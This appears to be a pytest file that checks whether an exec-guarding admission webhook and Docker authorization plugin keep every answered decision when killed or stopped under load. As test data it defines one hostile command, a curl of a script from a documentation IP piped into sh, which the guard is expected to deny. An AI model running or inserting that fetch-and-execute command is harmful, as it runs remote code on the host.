"""A decision server killed under load: every decision it answered is recorded, in decisions.jsonl at once and
in the store after the next start; SIGTERM drains (answers what it is reading, copies the rest, exits 0).

Both servers run as they are deployed (their own process, the CLI): the admission webhook, with clients
posting exec reviews over kept-alive HTTPS connections as kube-apiserver does, and the Docker plugin, with
clients posting AuthZReq exec requests over kept-alive unix-socket connections as dockerd does. Each
client notes what was answered: the review's uid, the exec request's URI.
"""

from __future__ import annotations

import base64
import http.client
import json
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import orjson
import pytest

from execguard.testing import reviews
from execguard.testing.dockerd import TLSFiles, free_port

MINER = ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]
CLIENTS = 4
ANSWERS_BEFORE_SIGNAL = 400  # answered reviews before the signal: the server is busy when it comes



class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path: Path) -> None:
        super().__init__("localhost", timeout=10)
        self.path = str(path)

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(10)
        self.sock.connect(self.path)


@dataclass
class Server:
    certs: TLSFiles
    tmp: Path
    platform: str = "k8s"  # k8s: the admission webhook; docker: the authorization plugin
    port: int = field(default_factory=free_port)
    proc: subprocess.Popen[bytes] | None = None

    @property
    def key(self) -> str:
        """What identifies an answered request in its decision record."""
        return "uid" if self.platform == "k8s" else "uri"

    @property
    def record(self) -> Path:
        return self.tmp / "state" / "decisions.jsonl"

    @property
    def store(self) -> Path:
        return self.tmp / "guard.db"

    def start(self) -> None:
        if self.platform == "k8s":
            cmd = [sys.executable, "-m", "execguard", "guard", "admission", "--tls-cert", str(self.certs.server_cert),
                   "--tls-key", str(self.certs.server_key), "--listen", f"127.0.0.1:{self.port}"]  # fmt: skip
        else:
            cmd = [sys.executable, "-m", "execguard", "guard", "docker-authz", "--socket", str(self.tmp / "eg.sock")]
        cmd += ["--state-dir", str(self.tmp / "state"), "--store", str(self.store)]
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=open(self.tmp / "webhook.log", "ab"))  # noqa: SIM115
        deadline = time.monotonic() + 60
        while True:
            try:
                conn = self.connect()
                if self.platform == "k8s":
                    conn.request("GET", "/readyz")
                else:
                    conn.request("POST", "/Plugin.Activate", body=b"{}")
                if conn.getresponse().status == 200:
                    conn.close()
                    return
            except OSError:
                pass
            assert self.proc.poll() is None and time.monotonic() < deadline, (self.tmp / "webhook.log").read_text()
            time.sleep(0.1)

    def connect(self) -> http.client.HTTPConnection:
        if self.platform == "docker":
            return UnixConnection(self.tmp / "eg.sock")
        return http.client.HTTPSConnection("127.0.0.1", self.port, context=reviews.client_context(str(self.certs.ca)), timeout=10)

    def ask(self, conn: http.client.HTTPConnection, n: int, i: int) -> str:
        """One judged exec request; its key once answered (an exception when it was not)."""
        argv = MINER if i % 3 == 0 else ["ls", f"/tmp/{n}-{i}"]
        if self.platform == "k8s":
            status, body = reviews.post(conn, reviews.connect("exec", argv))  # type: ignore[arg-type]
            if status != 200:
                raise http.client.HTTPException(f"no decision: {status} {body[:200]!r}")
            return str(orjson.loads(body)["response"]["uid"])
        uri = f"/v1.41/containers/c{n}-{i}/exec"
        payload = {"User": "", "RequestMethod": "POST", "RequestUri": uri,
                   "RequestBody": base64.b64encode(orjson.dumps({"Cmd": argv})).decode()}  # fmt: skip
        conn.request("POST", "/AuthZPlugin.AuthZReq", body=orjson.dumps(payload), headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        answer = orjson.loads(resp.read())
        if resp.status != 200:
            raise http.client.HTTPException(f"no decision: {resp.status} {answer}")  # a plugin that is stopping says so
        assert answer["Allow"] is (i % 3 != 0)
        return uri


@dataclass
class Load:
    """Clients posting judged exec reviews until the server stops answering; ``answered`` holds the uids it answered."""

    server: Server
    answered: set[str] = field(default_factory=set)
    lock: threading.Lock = field(default_factory=threading.Lock)
    threads: list[threading.Thread] = field(default_factory=list)

    def client(self, n: int) -> None:
        conn = self.server.connect()
        i = 0
        while True:
            i += 1
            try:
                key = self.server.ask(conn, n, i)
            except (OSError, http.client.HTTPException, orjson.JSONDecodeError):
                return  # killed, or drained: this request was not answered
            with self.lock:
                self.answered.add(key)

    def __enter__(self) -> Load:
        self.threads = [threading.Thread(target=self.client, args=(n,), daemon=True) for n in range(CLIENTS)]
        for t in self.threads:
            t.start()
        while len(self.answered) < ANSWERS_BEFORE_SIGNAL:
            assert any(t.is_alive() for t in self.threads), "the clients stopped before the signal"
            time.sleep(0.01)
        return self

    def __exit__(self, *_: object) -> None:
        for t in self.threads:
            t.join(60)


def recorded(server: Server) -> list[str]:
    return [d[server.key] for d in map(json.loads, server.record.read_text().splitlines()) if d["kind"] == "decision"]


def stored(server: Server) -> list[str]:
    db = sqlite3.connect(server.store)
    try:
        return [k for (k,) in db.execute(f"SELECT json_extract(record, '$.{server.key}') FROM guard_records WHERE kind = 'decision'")]
    finally:
        db.close()


@pytest.fixture(params=["k8s", "docker"])
def server(certs: TLSFiles, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Server]:
    s = Server(certs, tmp_path, request.param)
    s.start()
    try:
        yield s
    finally:
        if s.proc is not None and s.proc.poll() is None:
            s.proc.kill()
            s.proc.wait(10)


def test_sigkill_under_load_loses_no_answered_decision(server: Server) -> None:
    assert server.proc is not None
    with Load(server) as load:
        server.proc.send_signal(signal.SIGKILL)
        assert server.proc.wait(30) == -signal.SIGKILL
    answered = set(load.answered)
    lines = recorded(server)
    assert answered <= set(lines)  # written before the answer left
    assert len(lines) == len(set(lines))  # one request, one decision line
    # the store may be behind (the copy runs every 0.2 s); the next start copies what it missed, once
    server.start()
    server.proc.send_signal(signal.SIGTERM)
    assert server.proc.wait(60) == 0
    rows = stored(server)
    assert answered <= set(rows) and sorted(rows) == sorted(lines)


def test_sigterm_drains_answers_and_copies_everything(server: Server) -> None:
    assert server.proc is not None
    with Load(server) as load:
        server.proc.send_signal(signal.SIGTERM)
        assert server.proc.wait(60) == 0
    answered = set(load.answered)
    lines = recorded(server)
    rows = stored(server)  # without a restart: the drain copied the last decisions
    assert answered <= set(lines) and sorted(rows) == sorted(lines)
    log = (server.tmp / "webhook.log").read_text()
    assert "records copied this run" in log and "Traceback" not in log, log
